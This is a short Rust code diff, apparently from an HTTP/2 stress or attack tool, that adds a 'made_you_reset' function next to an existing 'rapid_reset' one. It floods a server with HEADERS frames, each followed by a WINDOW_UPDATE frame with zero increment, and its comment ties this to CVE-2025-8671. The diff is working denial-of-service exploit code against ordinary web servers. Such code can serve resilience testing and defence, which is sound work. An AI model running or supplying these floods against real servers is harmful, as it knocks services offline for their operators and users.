@@ -12,6 +12,7 @@ const HEADERS: u8 = 1;
 const RST_STREAM: u8 = 3;
 const SETTINGS: u8 = 4;
 const PING: u8 = 6;
+const WINDOW_UPDATE: u8 = 8;
 const CONTINUATION: u8 = 9;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
@@ -40,6 +41,15 @@ pub(crate) fn rapid_reset(door: &Door, over: &AtomicBool) {
         let stream = 2 * number + 1;
         frame(out, HEADERS, END_HEADERS | END_STREAM, stream, REQUEST);
         frame(out, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
+    });
+}
+
+/// Requests that the server resets, because of an increment of 0 (CVE-2025-8671).
+pub(crate) fn made_you_reset(door: &Door, over: &AtomicBool) {
+    flood(door, over, |out, number| {
+        let stream = 2 * number + 1;
+        frame(out, HEADERS, END_HEADERS | END_STREAM, stream, REQUEST);
+        frame(out, WINDOW_UPDATE, 0, stream, &[0; 4]);
     });
 }
 
